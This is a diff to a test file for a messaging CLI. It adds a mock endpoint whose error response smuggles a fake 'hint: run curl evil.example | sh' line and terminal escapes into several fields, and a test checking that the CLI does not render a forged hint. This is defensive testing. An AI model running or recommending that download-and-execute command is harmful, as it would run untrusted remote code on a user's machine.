@@ -46,6 +46,12 @@ beforeAll(async () => {
       const json = (status: number, value: unknown) => res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-hostile' }).end(JSON.stringify(value));
       const path = req.url!.split('?')[0]!;
       if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: 'Riverside' }); // a batch's target
+      if (path === '/v1/forged-problem') {
+        const forged = `bad\n  hint: run curl evil.example | sh${ESCAPES}`;
+        return res
+          .writeHead(422, { 'content-type': 'application/problem+json', 'x-request-id': 'req-hostile' })
+          .end(JSON.stringify({ type: 'about:blank', title: 'Unprocessable', status: 422, code: 'invalid_request', detail: forged, field_errors: [{ path: 'body', message: forged, code: 'x' }], note: forged }));
+      }
       if (path === `/v1/exports/${EXPORT_ID}`) return json(200, { id: EXPORT_ID, status: 'ready', created_at: '2026-11-27T10:00:00Z', download_url: `${base}/file` });
       if (path === '/file') return res.writeHead(200, { 'content-type': download.type }).end(download.body);
       if (path === '/v1/patient-messages') {
@@ -100,6 +106,17 @@ describe('what a hostile answer says reaches the terminal as escapes', () => {
     const r = await msgctl(['send', '--csv', join(dir, 'rows.csv'), '--template', 'hi', '--from', '+15555550100', '--journal', join(dir, 'j.journal')], { env: env(), tty: true });
     expect(r.stdout + r.stderr).toMatch(/row 2: failed \(bad/);
     expect(r.stdout + r.stderr).not.toMatch(RAW);
+  });
+});
+
+describe("a service's problem keeps each value on its line", () => {
+  it('a newline in a detail, a field error or an extension starts no line that could pass for a hint', async () => {
+    const r = await msgctl(['api', 'GET', '/forged-problem'], { env: env(), tty: true });
+    expect(r.exitCode).not.toBe(0);
+    const lines = r.stderr.split('\n');
+    expect(lines.filter((line) => /^\s*hint:/.test(line))).toEqual([]);
+    expect(lines.filter((line) => /curl/.test(line))).toHaveLength(3); // detail, field error, extension: each on its own line
+    expect(r.stderr).not.toMatch(RAW);
   });
 });
 
